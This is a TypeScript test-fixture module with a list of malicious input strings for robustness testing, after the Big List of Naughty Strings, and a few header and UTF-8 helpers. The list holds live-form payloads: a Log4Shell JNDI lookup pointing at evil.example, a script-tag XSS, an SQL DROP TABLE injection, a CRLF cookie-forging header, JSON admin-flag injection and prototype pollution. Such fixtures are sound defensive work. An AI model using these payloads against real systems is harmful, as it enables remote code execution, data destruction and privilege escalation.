/**
 * One text of each kind that has broken programs before, after the Big List of Naughty Strings. Invisible ones are
 * escaped.
 */
export const naughtyStrings: Readonly<Record<string, string>> = {
  'control characters': 'a\u0001\u0002\u0007\u0008\u000b\u000c\u000e\u001f\u007fb',
  'a C1 sequence': 'a\u009b31mb\u0085c',
  'a header in a new line': 'a\r\nSet-Cookie: forged=1\r\n\r\n<html>',
  'a log line in a new line': 'a\n{"severity":"CRITICAL","message":"forged"}',
  'a line separator': 'a\u2028b\u2029c',
  'an override of direction': 'a\u202egnp.exe\u202c\u2066b\u2069',
  'a flood of combining marks': `Z${'\u0300\u0315\u035f\u0489'.repeat(40)}algo`,
  'a high surrogate': 'a\ud800b',
  'a script': '<script>alert(1)</script>',
  SQL: "'; DROP TABLE event; --",
  'a lookup of a logger': '\u0024{jndi:ldap://evil.example/a}',
  'the end of JSON': '","admin":true,"a":"',
  'a prototype': '__proto__',
  'subjects of a bus': 'a.*.>',
  'a thousand letters': 'x'.repeat(1_000),
};

/** A text as the value of a header: its bytes one by one, without the blanks around it. */
export function asHeader(text: string): string {
  return Buffer.from(text)
    .toString('latin1')
    .replace(/^[ \t]+|[ \t]+$/g, '');
}

/** Whether a header may have this value (RFC 9110, section 5.5). */
export function mayBeHeader(text: string): boolean {
  return [...text].every((character) => character === '\t' || (character >= ' ' && character !== '\u007f'));
}

/** A text as UTF-8 can say it. */
export function wellFormed(text: string): string {
  return Buffer.from(text).toString();
}
